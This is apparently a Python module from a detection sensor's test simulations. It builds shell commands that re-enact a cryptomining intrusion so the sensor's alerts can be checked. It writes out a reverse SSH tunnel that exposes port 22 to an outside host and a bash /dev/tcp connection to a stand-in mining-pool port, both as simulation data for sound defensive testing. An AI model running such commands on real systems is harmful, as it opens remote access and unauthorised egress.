"""What each simulation does on gpuhost, as one shell there: the steps of the ROME incident.

`rome` runs its three steps in ONE shell, so the tunnel's ssh, the GPU client and the pool
connect share an ancestor: the lineage that joins their alerts into one incident.
"""

from __future__ import annotations

import shlex
import sys
from dataclasses import dataclass
from pathlib import Path

from sensor.simulate.network import OUTSIDE_IP, SSH, Network

# the fake CUDA client's fixtures live with the tests (one copy of each driver trace)
FIXTURES = Path(__file__).resolve().parents[2] / "tests" / "fixtures" / "gpu"
GPU_FIXTURE = "hopper-bringup.yaml"
POOL_PORT = 3333  # stratum's usual port: a pool-port miner fact

ROME_RULES = ("reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute", "miner-pool-connection",
              "reverse-tunnel-then-miner-egress", "gpu-compute-then-miner-egress")


@dataclass(frozen=True)
class Expectation:
    """What the agent must report for a simulation: these alerts, these fact kinds (by their
    API name, e.g. FACT_KIND_GPU_COMPUTE), and whether all its alerts form one incident."""

    rules: tuple[str, ...] = ()
    facts: tuple[str, ...] = ()
    one_incident: bool = False


EXPECTED = {
    "tunnel": Expectation(rules=("reverse-tunnel-opened",)),
    # GPU compute alone raises nothing: the agent reports it as a fact
    "gpu": Expectation(facts=("FACT_KIND_GPU_COMPUTE",)),
    "pool": Expectation(rules=("miner-pool-connection",)),
    "rome": Expectation(rules=ROME_RULES, one_incident=True),
}
NEEDS_GPU = ("gpu", "rome")


def tunnel(net: Network) -> str:
    return shlex.join([SSH, *net.ssh_options, "-fNR", "9000:localhost:22", f"root@{OUTSIDE_IP}"])


def gpu(driver_dir: Path) -> str:
    python = sys.executable
    return shlex.join([python, "-m", "sensor.fakegpu.isolate", str(driver_dir), "--", python, "-m",
                       "sensor.fakegpu.client", str(FIXTURES / GPU_FIXTURE)]) + " >/dev/null"


def pool() -> str:
    # nothing listens there: the connect itself is what a miner does first
    return f"bash -c 'exec 3<>/dev/tcp/{OUTSIDE_IP}/{POOL_PORT}' 2>/dev/null; true"


def script(what: str, net: Network, driver_dir: Path | None) -> str:
    """The shell command gpuhost runs for `what` (tunnel, gpu, pool or rome)."""
    names = ("tunnel", "gpu", "pool") if what == "rome" else (what,)
    return " && ".join(_step(name, net, driver_dir) for name in names)


def _step(name: str, net: Network, driver_dir: Path | None) -> str:
    if name == "tunnel":
        return tunnel(net)
    if name == "pool":
        return pool()
    if driver_dir is None:
        raise ValueError("the gpu step needs the fake driver mounted")
    return gpu(driver_dir)
